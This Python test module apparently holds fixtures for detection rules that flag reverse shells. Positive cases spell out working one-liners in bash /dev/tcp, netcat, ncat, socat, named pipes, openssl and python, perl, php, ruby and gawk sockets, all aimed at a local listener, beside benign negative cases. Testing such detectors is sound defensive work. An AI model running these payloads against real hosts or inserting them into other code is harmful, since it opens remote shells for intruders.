"""Shells that talk to the network."""

# ruff: noqa: E501 - what is typed in one go stands in one line

from __future__ import annotations

from tests.rules.sandbox import ACCOUNT
from tests.rules.steps.step import LISTENER, Step, starts

NETWORK_SHELLS: tuple[Step, ...] = (
    starts(
        "shell_on_network_device", "positive-both-streams", "^bash -c bash -i >&",
        LISTENER, "bash -c 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1'",
    ),
    starts(
        "shell_on_network_device", "positive-descriptor", "^bash -c exec 5<>",
        LISTENER, "bash -c 'exec 5<>/dev/tcp/127.0.0.1/4444; while read -r line <&5; do $line >&5 2>&5; done'",
    ),
    starts(
        "shell_on_network_device", "positive-no-listener", "^bash -c sh -i",
        "bash -c 'sh -i >& /dev/udp/127.0.0.1/53 0>&1' </dev/null",
        "bash -c 'sh -i 5<> /dev/tcp/127.0.0.1/4445 0<&5 1>&5 2>&5'",
    ),
    starts(
        "shell_on_network_device", "negative-port-check", "^bash -c .*/dev/tcp",
        "timeout 1 bash -c '</dev/tcp/127.0.0.1/22' && echo open",
        "bash -c 'echo >/dev/tcp/127.0.0.1/22' && echo open",
        "bash -c 'echo /dev/tcp'",
        "bash -c 'exec 3<>/dev/tcp/127.0.0.1/22; head -1 <&3'",
    ),
    starts(
        "shell_forced_interactive", "positive-typed-by-hand", "^(bash|sh) -i$",
        LISTENER, "bash -i >& /dev/tcp/127.0.0.1/4444 0>&1",
        LISTENER, "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc.traditional 127.0.0.1 4444 >/tmp/f",
    ),
    starts(
        "shell_forced_interactive", "positive-python-socket", "^/bin/sh -i$",
        LISTENER,
        "python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"127.0.0.1\",4444));"
        "[os.dup2(s.fileno(),n) for n in (0,1,2)];subprocess.call([\"/bin/sh\",\"-i\"])'",
    ),
    starts(
        "shell_forced_interactive", "negative-log-in-shells", "^(-?bash|-sh|/bin/bash|bash -(l|ic).*|bash --.*)$",
        f"su - {ACCOUNT} -c true", f"su {ACCOUNT}", "exit", "bash", "exit", "bash -l", "exit", "bash -ic true",
        "bash --init-file /dev/null", "exit", "sudo -i true", "sudo -s true",
    ),
    starts(
        "shell_forced_interactive", "negative-session-recording", "^bash ",
        "SHELL=/bin/bash script -q /root/phien.log", "exit",
    ),
    starts(
        "shell_on_network_tool", "positive-netcat", r"^nc\.traditional .*sh",
        LISTENER, "nc.traditional 127.0.0.1 4444 -e /bin/bash",
        "timeout 1 nc.traditional -nlvp 4446 -e /bin/sh", "nc.traditional -w1 -c sh 127.0.0.1 4447",
    ),
    starts(
        "shell_on_network_tool", "positive-ncat", "^ncat ",
        LISTENER, "timeout 1 ncat --exec /bin/bash 127.0.0.1 4444",
        LISTENER, "timeout 1 ncat 127.0.0.1 4444 --sh-exec 'bash -i'",
    ),
    starts(
        "shell_on_network_tool", "positive-socat", "^socat ",
        LISTENER, "timeout 1 socat TCP:127.0.0.1:4444 EXEC:/bin/bash,pty,stderr,setsid",
        "timeout 1 socat tcp-listen:4448,reuseaddr exec:sh",
    ),
    starts(
        "shell_on_network_tool", "negative-checks-and-relays", r"^(nc\.\w+|ncat|socat) ",
        "nc.openbsd -vz 127.0.0.1 22", "echo | nc.traditional -w1 127.0.0.1 22",
        "timeout 0.5 ncat -l 4449 --exec /usr/bin/date", "timeout 0.5 socat -u TCP-LISTEN:4450 OPEN:/dev/null",
        "echo true | timeout 0.5 socat - EXEC:bash", "nc.openbsd -w1 127.0.0.1 22 </etc/shells",
    ),
    starts(
        "shell_on_named_pipe", "positive-netcat", "^sh -c rm -f",
        LISTENER,
        "(setsid sh -c 'rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 127.0.0.1 4444 >/tmp/f'"
        " >/dev/null 2>&1 &); sleep 1",
    ),
    starts(
        "shell_on_named_pipe", "positive-openssl", "^bash -c mkfifo",
        "(setsid bash -c 'mkfifo /tmp/s; /bin/sh -i </tmp/s 2>&1 | openssl s_client -quiet -connect 127.0.0.1:4451"
        " >/tmp/s; rm /tmp/s' >/dev/null 2>&1 &); sleep 1",
    ),
    starts(
        "shell_on_named_pipe", "negative-pipe-without-shell", "^sh -c mkfifo",
        "sh -c 'mkfifo /tmp/p; (sleep 0.2; date) >/tmp/p & cat /tmp/p | nc.traditional -w1 127.0.0.1 22'",
        "sh -c 'mkfifo /tmp/q; echo true >/tmp/q & cat /tmp/q | sh'",
    ),
    starts(
        "shell_on_script_socket", "positive-python", "^python3 -c",
        LISTENER,
        "timeout 2.5 python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"127.0.0.1\",4444));"
        "[os.dup2(s.fileno(),f) for f in(0,1,2)];pty.spawn(\"sh\")' </dev/null",
    ),
    starts(
        "shell_on_script_socket", "positive-perl", "^perl ",
        LISTENER,
        "perl -e 'use Socket;$i=\"127.0.0.1\";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));"
        "if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");open(STDOUT,\">&S\");open(STDERR,\">&S\");"
        "exec(\"sh -i\");};'",
        LISTENER,
        "perl -MIO -e '$c=new IO::Socket::INET(PeerAddr,\"127.0.0.1:4444\");STDIN->fdopen($c,r);$~->fdopen($c,w);"
        "system$_ while<>;'",
    ),
    starts(
        "shell_on_script_socket", "positive-php-ruby", "^(php|ruby) ",
        LISTENER, "php -r '$s=fsockopen(\"127.0.0.1\",4444);exec(\"sh <&3 >&3 2>&3\");'",
        LISTENER,
        "ruby -rsocket -e 'c=TCPSocket.new(\"127.0.0.1\",4444);while(l=c.gets);IO.popen(l,\"r\"){|io|c.print io.read}end'",
    ),
    starts(
        "shell_on_script_socket", "positive-awk", "^gawk ",
        LISTENER,
        "gawk 'BEGIN{s=\"/inet/tcp/0/127.0.0.1/4444\";while((s|&getline c)>0){while((c|&getline)>0)print $0|&s;close(c)}}'",
    ),
    starts(
        "shell_on_script_socket", "negative-connection-only", "^(python3|perl|php|ruby) ",
        "python3 -c 'import socket;s=socket.socket();s.connect((\"127.0.0.1\",22));print(s.recv(64))'",
        "php -r '$s=fsockopen(\"127.0.0.1\",22);echo fgets($s);'",
        "ruby -rsocket -e 'puts TCPSocket.new(\"127.0.0.1\",22).gets'",
        "perl -MIO::Socket::INET -e 'print IO::Socket::INET->new(\"127.0.0.1:22\")->getline'",
        "python3 -c 'import subprocess;subprocess.run([\"id\"])'",
    ),
)  # fmt: skip
